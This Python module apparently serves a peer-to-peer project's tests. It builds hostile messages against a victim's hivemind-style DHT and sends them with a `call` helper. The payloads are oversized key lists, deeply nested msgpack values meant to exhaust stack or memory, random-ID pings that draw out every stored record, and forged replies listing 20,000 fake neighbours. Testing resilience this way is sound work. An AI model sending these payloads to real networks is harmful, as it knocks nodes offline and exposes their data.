"""What an attacker asks of a victim's DHT, and answers when it is asked. hivemind alone would do as told."""

import secrets
from typing import Any

import msgpack

from swarmd.gossip.libp2p_bindings import P2PDaemonError, P2PHandlerError, PeerID, dht_pb2
from swarmd.gossip.libp2p_daemon import P2PDaemon
from swarmd.gossip.libp2p_dht import place

Request = tuple[str, Any]
"""Name of the method, and what it is asked."""


async def call(daemon: P2PDaemon, victim: str, method: str, request: Any) -> bool:
    """Ask the victim; whether it answered."""
    try:
        await daemon._client.call_unary_handler(
            PeerID.from_base58(victim), f"DHTProtocol.{method}", request.SerializeToString()
        )
    except (P2PHandlerError, P2PDaemonError):
        return False
    return True


def search(peer_id: str) -> Request:
    """What an honest node may ask, though not that often."""
    return "rpc_find", dht_pb2.FindRequest(keys=[bytes(20)], peer=_info(peer_id))


def _crowd(peer_id: str) -> Request:
    """As many keys as fit: each is looked up."""
    keys = [secrets.token_bytes(20)] * 40_000
    return "rpc_find", dht_pb2.FindRequest(keys=keys, peer=_info(peer_id))


def _nest(peer_id: str) -> Request:
    """Records in records in records: a serialiser that follows them runs out of stack, or of memory."""
    columns = {"keys": [bytes(20)], "subkeys": [b""], "expiration_time": [2e9], "in_cache": [False]}
    return "rpc_store", dht_pb2.StoreRequest(peer=_info(peer_id), values=[nested()], **columns)


def _alias(peer_id: str) -> Request:
    """Another place in the DHT each time: every new one is handed all records that there are."""
    return "rpc_ping", dht_pb2.PingRequest(peer=dht_pb2.NodeInfo(node_id=secrets.token_bytes(20)))


REQUESTS = {"crowd": _crowd, "nest": _nest, "alias": _alias}


def nested(levels: int = 300, size_bytes: int = 800_000) -> bytes:
    """Extension types in each other around a block of zeros."""
    data = msgpack.packb(bytes(size_bytes))
    for _ in range(levels):
        data = msgpack.packb([msgpack.ExtType(0x40, data)])
    packed: bytes = msgpack.packb(msgpack.ExtType(0x40, data))
    return packed


def _nest_back(peer_id: str) -> Any:
    value = dht_pb2.FindResult(type=dht_pb2.FOUND_DICTIONARY, value=nested(), expiration_time=2e9)
    return dht_pb2.FindResponse(results=[value], peer=_info(peer_id))


def _crowd_back(peer_id: str) -> Any:
    """Neighbours that nobody has heard of."""
    ids = [secrets.token_bytes(20) for _ in range(20_000)]
    peers = [b"\x12\x20" + secrets.token_bytes(32) for _ in ids]
    result = dht_pb2.FindResult(nearest_node_ids=ids, nearest_peer_ids=peers)
    return dht_pb2.FindResponse(results=[result], peer=_info(peer_id))


ANSWERS = {"nest": _nest_back, "crowd": _crowd_back}


def _info(peer_id: str) -> Any:
    return dht_pb2.NodeInfo(node_id=place(peer_id).to_bytes())
